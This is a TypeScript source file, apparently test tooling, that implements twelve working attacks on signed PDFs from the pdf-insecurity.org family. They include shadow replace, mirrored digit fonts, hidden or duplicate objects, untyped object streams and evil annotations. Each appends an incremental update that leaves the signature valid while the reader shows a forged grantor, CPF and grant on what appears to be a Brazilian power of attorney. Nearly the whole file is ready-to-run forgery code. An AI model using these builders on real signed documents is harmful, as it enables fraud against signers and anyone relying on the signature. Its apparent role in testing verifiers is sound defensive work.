import { PDFArray, PDFDict, PDFDocument, PDFName, type PDFObject, PDFRawStream, PDFRef } from 'pdf-lib';
import { getDocumentProxy } from 'unpdf';

/**
 * The "PDF Insecurity" attacks on signed PDFs (pdf-insecurity.org: incremental saving, signature wrapping, shadow
 * hide/replace, evil annotation, sneaky signature), each written here as ONE incremental
 * update appended after the signature: no signed byte changes, so every signature still verifies, yet a reader
 * (PDF.js) shows something the signer never saw. Each builder takes a signed PDF and answers the forged one.
 */

/** What the forged page says instead of the mandate: another grantor, another CPF, another grant. */
export const FORGED_CPF = '111.444.777-35';
export const FORGED_LINES = [
  `OUTORGANTE: JOSE FORJADO DA SILVA, CPF ${FORGED_CPF}`,
  'OUTORGADO: FULANO DE TAL, com poderes para vender a marca',
];
/** A CPF as the procuração prints it ("529.982.247-25"). */
const CPF_PATTERN = /\d{3}\.\d{3}\.\d{3}-\d{2}/;
/** How builder 4's fonts draw a text: each digit d as 9 - d. */
export const mirroredDigits = (text: string) => text.replace(/\d/g, (digit) => String(9 - Number(digit)));

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const bytesOf = (body: Buffer | string) => (typeof body === 'string' ? latin1(body) : body);

/** A stream object's body, uncompressed: `dict` holds the entries besides /Length. */
const stream = (dict: string, data: Buffer | string) => {
  const bytes = bytesOf(data);
  const entries = [dict, `/Length ${bytes.length}`].filter(Boolean).join(' ');
  return Buffer.concat([latin1(`<< ${entries} >>\nstream\n`), bytes, latin1('\nendstream')]);
};

/** A string drawn in a standard font (WinAnsi): as a hex string of its Latin-1 bytes, '?' for anything else. */
const hexText = (text: string) =>
  `<${Buffer.from([...text].map((char) => (char.charCodeAt(0) <= 0xff ? char.charCodeAt(0) : 0x3f))).toString('hex')}>`;

interface Trailer {
  root: PDFRef;
  info?: PDFRef;
  size: number;
  prev: number;
}

interface XrefStreamEntry {
  number: number;
  /** 0 free, 1 in the file at `field2`, 2 in object stream `field2` at index `field3`. */
  type: 0 | 1 | 2;
  field2: number;
  field3: number;
}

/** One incremental update being written after the signed bytes, which it copies untouched. */
class Update {
  private readonly parts: Buffer[];
  private length: number;
  /** Where the xref says each object starts (by default, where `object` wrote it). */
  readonly xref = new Map<number, number>();

  constructor(signed: Uint8Array) {
    this.parts = [Buffer.from(signed), latin1('\n')];
    this.length = signed.length + 1;
  }

  /** Appends bytes as they are; answers where they start. */
  raw(bytes: Buffer | string): number {
    const chunk = bytesOf(bytes);
    const at = this.length;
    this.parts.push(chunk);
    this.length += chunk.length;
    return at;
  }

  /** Appends `N 0 obj … endobj`; the xref points at it unless `indexed` is false. Answers where it starts. */
  object(number: number, body: Buffer | string, indexed = true): number {
    const at = this.raw(Buffer.concat([latin1(`${number} 0 obj\n`), bytesOf(body), latin1('\nendobj\n')]));
    if (indexed) this.xref.set(number, at);
    return at;
  }

  private trailerEntries(trailer: Trailer, size: number) {
    return `/Size ${size} /Root ${trailer.root.toString()}${trailer.info ? ` /Info ${trailer.info.toString()}` : ''} /Prev ${trailer.prev}`;
  }

  private end(xrefAt: number): Uint8Array {
    this.raw(`startxref\n${xrefAt}\n%%EOF\n`);
    return Uint8Array.from(Buffer.concat(this.parts));
  }

  /** Ends the update with a classic xref table, one subsection per object, and its trailer. */
  withTable(trailer: Trailer): Uint8Array {
    const entries = [...this.xref]
      .sort(([a], [b]) => a - b)
      .map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`)
      .join('');
    const xrefAt = this.raw(`xref\n${entries}trailer\n<< ${this.trailerEntries(trailer, trailer.size)} >>\n`);
    return this.end(xrefAt);
  }

  /**
   * Ends the update with a cross-reference STREAM (ISO 32000-1 7.5.8), object `number`, uncompressed, /W [1 4 2]:
   * the objects written (type 1), `extra` entries, and itself.
   */
  withXrefStream(number: number, trailer: Trailer, extra: XrefStreamEntry[] = []): Uint8Array {
    const xrefAt = this.length;
    const written = [...this.xref].map(([objectNumber, offset]): XrefStreamEntry => ({
      number: objectNumber,
      type: 1,
      field2: offset,
      field3: 0,
    }));
    const self: XrefStreamEntry = { number, type: 1, field2: xrefAt, field3: 0 };
    const entries = [...written, ...extra, self].sort((a, b) => a.number - b.number);
    const data = Buffer.alloc(entries.length * 7);
    entries.forEach((entry, index) => {
      data.writeUInt8(entry.type, index * 7);
      data.writeUInt32BE(entry.field2, index * 7 + 1);
      data.writeUInt16BE(entry.field3, index * 7 + 5);
    });
    const size = Math.max(trailer.size, number + 1);
    const index = entries.map((entry) => `${entry.number} 1`).join(' ');
    this.object(
      number,
      stream(`/Type /XRef ${this.trailerEntries(trailer, size)} /W [1 4 2] /Index [${index}]`, data),
      false,
    );
    return this.end(xrefAt);
  }
}

/** The signed PDF as a forger reads it before appending: its last revision's catalog, page 1 and fonts. */
async function target(signed: Uint8Array) {
  const doc = await PDFDocument.load(signed, { updateMetadata: false });
  const context = doc.context;
  const tail = Buffer.from(signed.subarray(Math.max(0, signed.length - 64))).toString('latin1');
  const prev = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(tail)?.[1]);
  if (!Number.isSafeInteger(prev)) throw new Error('sem startxref');
  const root = context.trailerInfo.Root as PDFRef;
  const info = context.trailerInfo.Info instanceof PDFRef ? context.trailerInfo.Info : undefined;
  const page = doc.getPage(0);
  const contents = page.node.get(PDFName.of('Contents'));
  const content = contents instanceof PDFArray ? contents.get(0) : contents;
  if (!(content instanceof PDFRef)) throw new Error('página sem conteúdo indireto');
  const fontDict = page.node.Resources()?.lookupMaybe(PDFName.of('Font'), PDFDict);
  const fonts = (fontDict?.entries() ?? []).filter((entry): entry is [PDFName, PDFRef] => entry[1] instanceof PDFRef);
  if (fonts.length === 0) throw new Error('página sem fonte');
  const trailer: Trailer = { root, info, size: context.largestObjectNumber + 1, prev };
  return {
    doc,
    context,
    root,
    page,
    content,
    fonts,
    trailer,
    /** A fresh object number (the trailer's /Size grows with it). */
    fresh: () => trailer.size++,
  };
}
type Target = Awaited<ReturnType<typeof target>>;

/** Page 1's content as the forger wants it read: FORGED_LINES in one of the page's own fonts. */
function forgedContent(t: Target): string {
  const box = t.page.getMediaBox();
  const size = Math.min(11, box.width / 50);
  const x = box.x + box.width * 0.08;
  const y = box.y + box.height * 0.8;
  const [fontName] = t.fonts[0];
  const lines = FORGED_LINES.map((line, index) => `${index ? 'T* ' : ''}${hexText(line)} Tj`).join(' ');
  return `BT ${fontName.toString()} ${size.toFixed(2)} Tf ${(size * 1.4).toFixed(2)} TL ${x.toFixed(2)} ${y.toFixed(2)} Td ${lines} ET`;
}

/** The catalog with `changes` applied, as a new definition of the same object. */
function catalogWith(t: Target, changes: [string, PDFObject][]): string {
  const catalog = t.doc.catalog.clone(t.context);
  for (const [key, value] of changes) catalog.set(PDFName.of(key), value);
  return catalog.toString();
}

/** The object to write for the AcroForm changed by `change`: its own object, or the catalog holding it inline. */
function acroFormWith(t: Target, change: (acroForm: PDFDict) => void): [number, string] {
  const entry = t.doc.catalog.get(PDFName.of('AcroForm'));
  const acroForm = entry ? (t.context.lookup(entry, PDFDict).clone(t.context) as PDFDict) : t.context.obj({});
  change(acroForm);
  if (entry instanceof PDFRef) return [entry.objectNumber, acroForm.toString()];
  return [t.root.objectNumber, catalogWith(t, [['AcroForm', acroForm]])];
}

const grown = (t: Target, array: PDFArray | undefined, items: PDFRef[]) => {
  const copy = array ? (array.clone(t.context) as PDFArray) : t.context.obj([]);
  for (const item of items) copy.push(item);
  return copy;
};

/** Page 1 redefined with `annotation` added to its /Annots. */
function pageWithAnnotation(t: Target, annotation: PDFRef): [number, string] {
  const page = t.page.node.clone(t.context);
  page.set(PDFName.of('Annots'), grown(t, t.page.node.lookupMaybe(PDFName.of('Annots'), PDFArray), [annotation]));
  return [t.page.ref.objectNumber, page.toString()];
}

/** The AcroForm redefined with `field` added to its /Fields. */
const formWithField = (t: Target, field: PDFRef) =>
  acroFormWith(t, (acroForm) =>
    acroForm.set(PDFName.of('Fields'), grown(t, acroForm.lookupMaybe(PDFName.of('Fields'), PDFArray), [field])),
  );

// 1-3: shadow "replace" through an object some verifier deems free to change. The update redefines page 1's content
// stream and names the same object number as something a PAdES update may touch. A reader draws the redefinition.

/** 1. The trailer's /Info names page 1's content stream, which the update redefines: the reader shows FORGED_LINES. */
export async function infoNamesContent(signed: Uint8Array): Promise<Uint8Array> {
  const t = await target(signed);
  const update = new Update(signed);
  update.object(t.content.objectNumber, stream('', forgedContent(t)));
  return update.withTable({ ...t.trailer, info: t.content });
}

/** 2. The catalog gains /DSS naming page 1's content stream, redefined in the same update: the reader shows FORGED_LINES. */
export async function dssNamesContent(signed: Uint8Array): Promise<Uint8Array> {
  const t = await target(signed);
  const update = new Update(signed);
  update.object(t.content.objectNumber, stream('', forgedContent(t)));
  update.object(t.root.objectNumber, catalogWith(t, [['DSS', t.content]]));
  return update.withTable(t.trailer);
}

/** 3. The catalog's /Metadata names page 1's content stream, redefined (dressed as XMP): the reader shows FORGED_LINES. */
export async function metadataNamesContent(signed: Uint8Array): Promise<Uint8Array> {
  const t = await target(signed);
  const update = new Update(signed);
  update.object(t.content.objectNumber, stream('/Type /Metadata /Subtype /XML', forgedContent(t)));
  update.object(t.root.objectNumber, catalogWith(t, [['Metadata', t.content]]));
  return update.withTable(t.trailer);
}

/**
 * 4. The AcroForm's /DR (default resources, which signing tools add fonts to) names page 1's fonts, which the update
 * redefines with an /Encoding whose /Differences map each digit d to the glyph of 9 - d: the same content stream now
 * shows (and pdf.js extracts) every number mirrored, the CPF 529.982.247-25 as 470.017.752-74.
 */
export async function formResourcesNameFonts(signed: Uint8Array): Promise<Uint8Array> {
  const t = await target(signed);
  const update = new Update(signed);
  const digits = ['zero', 'one', 'two', 'three', 'four', 'five', 'six', 'seven', 'eight', 'nine'];
  const fonts = [...new Map(t.fonts.map(([, ref]) => [ref.objectNumber, ref])).values()];
  for (const ref of fonts) {
    const font = t.context.lookup(ref, PDFDict).clone(t.context);
    const encoding = font.get(PDFName.of('Encoding'));
    font.set(
      PDFName.of('Encoding'),
      t.context.obj({
        Type: 'Encoding',
        BaseEncoding: encoding instanceof PDFName ? encoding : PDFName.of('WinAnsiEncoding'),
        Differences: [48, ...digits.map((_, digit) => digits[9 - digit])],
      }),
    );
    update.object(ref.objectNumber, font.toString());
  }
  const fontResources = Object.fromEntries(fonts.map((ref, index) => [`F${index}`, ref]));
  update.object(
    ...acroFormWith(t, (acroForm) => acroForm.set(PDFName.of('DR'), t.context.obj({ Font: fontResources }))),
  );
  return update.withTable(t.trailer);
}

/**
 * 5. The trailer's /Info names the catalog, which the update redefines with /Pages pointing to a new page tree: one
 * page drawing FORGED_LINES. The reader shows another document altogether.
 */
export async function infoNamesCatalog(signed: Uint8Array): Promise<Uint8Array> {
  const t = await target(signed);
  const update = new Update(signed);
  const content = t.fresh();
  const page = t.fresh();
  const pages = t.fresh();
  const resources = t.page.node.Resources()!.toString();
  const box = t.page.getMediaBox();
  update.object(content, stream('', forgedContent(t)));
  update.object(
    page,
    `<< /Type /Page /Parent ${pages} 0 R /MediaBox [${box.x} ${box.y} ${box.x + box.width} ${box.y + box.height}] /Resources ${resources} /Contents ${content} 0 R >>`,
  );
  update.object(pages, `<< /Type /Pages /Kids [${page} 0 R] /Count 1 >>`);
  update.object(t.root.objectNumber, catalogWith(t, [['Pages', PDFRef.of(pages)]]));
  return update.withTable({ ...t.trailer, info: t.root });
}

/** The signed definition of page 1's content stream, byte for byte (its dictionary and its still-encoded data). */
function signedContent(t: Target): Buffer {
  const original = t.context.lookup(t.content);
  if (!(original instanceof PDFRawStream)) throw new Error('conteúdo não é um fluxo');
  return Buffer.concat([
    latin1(`${original.dict.toString()}\nstream\n`),
    Buffer.from(original.contents),
    latin1('\nendstream'),
  ]);
}

/**
 * 6. The update defines page 1's content stream twice: first FORGED_LINES, which the xref points at (what a reader
 * shows), then the signed definition again, later in the bytes, for a parser that keeps the last definition it reads.
 */
export async function duplicateContent(signed: Uint8Array): Promise<Uint8Array> {
  const t = await target(signed);
  const update = new Update(signed);
  update.object(t.content.objectNumber, stream('', forgedContent(t)));
  update.object(t.content.objectNumber, signedContent(t), false);
  return update.withTable(t.trailer);
}

/**
 * 7. A new, unreferenced stream whose data holds a complete `N 0 obj … endobj` redefining page 1's content stream
 * with FORGED_LINES; the xref entry of N points inside that stream's data. A parser reading object after object
 * skips the data (its /Length is right); a reader following the xref draws the hidden definition.
 */
export async function hiddenInStream(signed: Uint8Array): Promise<Uint8Array> {
  const t = await target(signed);
  const update = new Update(signed);
  const host = t.fresh();
  const hidden = Buffer.concat([
    latin1(`${t.content.objectNumber} 0 obj\n`),
    stream('', forgedContent(t)),
    latin1('\nendobj\n'),
  ]);
  const body = stream('', Buffer.concat([latin1('% dados\n'), hidden]));
  const hostAt = update.object(host, body);
  const hiddenAt = hostAt + Buffer.concat([latin1(`${host} 0 obj\n`), body]).indexOf(hidden);
  update.xref.set(t.content.objectNumber, hiddenAt);
  return update.withTable(t.trailer);
}

/**
 * 8. Page 1 redefined (its /Contents now a new stream drawing FORGED_LINES) inside an object stream that lacks
 * /Type /ObjStm, so a parser that only opens typed object streams never sees it; the update's xref stream points at
 * it with a type 2 entry, which a reader follows.
 */
export async function untypedObjectStream(signed: Uint8Array): Promise<Uint8Array> {
  const t = await target(signed);
  const update = new Update(signed);
  const content = t.fresh();
  const objectStream = t.fresh();
  const xref = t.fresh();
  update.object(content, stream('', forgedContent(t)));
  const page = t.page.node.clone(t.context);
  page.set(PDFName.of('Contents'), PDFRef.of(content));
  const header = `${t.page.ref.objectNumber} 0 `;
  update.object(objectStream, stream(`/N 1 /First ${header.length}`, `${header}${page.toString()}`));
  return update.withXrefStream(xref, t.trailer, [
    { number: t.page.ref.objectNumber, type: 2, field2: objectStream, field3: 0 },
  ]);
}

/** 9. An xref stream (no table) whose only entry besides its own marks page 1's content stream free: the page is blank. */
export async function xrefStreamFreesContent(signed: Uint8Array): Promise<Uint8Array> {
  const t = await target(signed);
  const update = new Update(signed);
  const xref = t.fresh();
  return update.withXrefStream(xref, t.trailer, [{ number: t.content.objectNumber, type: 0, field2: 0, field3: 1 }]);
}

/** Where on page 1 a reader (pdf.js) draws the first line with a CPF (or the first line), and the line with FORGED_CPF. */
async function lineToCover(pdf: Uint8Array) {
  const document = await getDocumentProxy(Uint8Array.from(pdf), { verbosity: 0 });
  try {
    const page = await document.getPage(1);
    const { items } = await page.getTextContent();
    const lines = items.flatMap((item) => ('str' in item && item.str.trim() ? [item] : []));
    const line = lines.find((item) => CPF_PATTERN.test(item.str)) ?? lines[0];
    if (!line) throw new Error('página sem texto');
    const [scale, , , , x, y] = line.transform as number[];
    const size = Math.abs(scale) || 11;
    const text = CPF_PATTERN.test(line.str) ? line.str.replace(CPF_PATTERN, FORGED_CPF) : `CPF ${FORGED_CPF}`;
    return { x, y, size, text, width: Math.max(line.width, (line.width * text.length) / line.str.length) };
  } finally {
    await document.destroy();
  }
}

/**
 * An appearance (form XObject) that paints a white box over that line and draws the line again with FORGED_CPF, and
 * the annotation rectangle it fills; `font` is a new Helvetica object.
 */
async function coverOf(signed: Uint8Array, font: number) {
  const line = await lineToCover(signed);
  const width = line.width + 8;
  const height = line.size * 1.6;
  const rect = [line.x - 4, line.y - line.size * 0.45, line.x - 4 + width, line.y - line.size * 0.45 + height];
  const paint = `q 1 1 1 rg 0 0 ${width.toFixed(2)} ${height.toFixed(2)} re f Q BT 0 0 0 rg /F1 ${line.size} Tf 4 ${(line.size * 0.45).toFixed(2)} Td ${hexText(line.text)} Tj ET`;
  return {
    rect: `[${rect.map((value) => value.toFixed(2)).join(' ')}]`,
    appearance: stream(
      `/Type /XObject /Subtype /Form /BBox [0 0 ${width.toFixed(2)} ${height.toFixed(2)}] /Resources << /Font << /F1 ${font} 0 R >> >>`,
      paint,
    ),
    font: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  };
}

/**
 * An annotation on page 1 whose appearance paints a white box over the CPF line and draws it again with FORGED_CPF:
 * `dictionary` writes the annotation from its rectangle, page and appearance; `inForm` also lists it in the AcroForm.
 */
async function paintOverCpf(
  signed: Uint8Array,
  dictionary: (rect: string, page: string, appearance: number) => string,
  inForm: boolean,
): Promise<Uint8Array> {
  const t = await target(signed);
  const update = new Update(signed);
  const [font, appearance, annotation] = [t.fresh(), t.fresh(), t.fresh()];
  const cover = await coverOf(signed, font);
  update.object(font, cover.font);
  update.object(appearance, cover.appearance);
  update.object(annotation, dictionary(cover.rect, t.page.ref.toString(), appearance));
  update.object(...pageWithAnnotation(t, PDFRef.of(annotation)));
  if (inForm) update.object(...formWithField(t, PDFRef.of(annotation)));
  return update.withTable(t.trailer);
}

/** 10. A new EMPTY signature field (/FT /Sig, no /V), as PAdES lets an update add, in the AcroForm and on page 1. */
export const emptySignatureField = (signed: Uint8Array) =>
  paintOverCpf(
    signed,
    (rect, page, appearance) =>
      `<< /Type /Annot /Subtype /Widget /FT /Sig /T (Testemunha) /F 4 /Rect ${rect} /P ${page} /AP << /N ${appearance} 0 R >> >>`,
    true,
  );

/** 11. A FreeText annotation that also carries /FT /Sig, so it passes for a signature field, in the AcroForm too. */
export const annotationPassingForSignature = (signed: Uint8Array) =>
  paintOverCpf(
    signed,
    (rect, page, appearance) =>
      `<< /Type /Annot /Subtype /FreeText /FT /Sig /T (Assinatura2) /F 4 /Rect ${rect} /P ${page} /DA (/Helv 11 Tf 0 g) /Contents (${FORGED_CPF}) /AP << /N ${appearance} 0 R >> >>`,
    true,
  );

/** 12. Evil annotation: a plain FreeText annotation on page 1. */
export const evilFreeText = (signed: Uint8Array) =>
  paintOverCpf(
    signed,
    (rect, page, appearance) =>
      `<< /Type /Annot /Subtype /FreeText /F 4 /Rect ${rect} /P ${page} /DA (/Helv 11 Tf 0 g) /Contents (${FORGED_CPF}) /AP << /N ${appearance} 0 R >> >>`,
    false,
  );
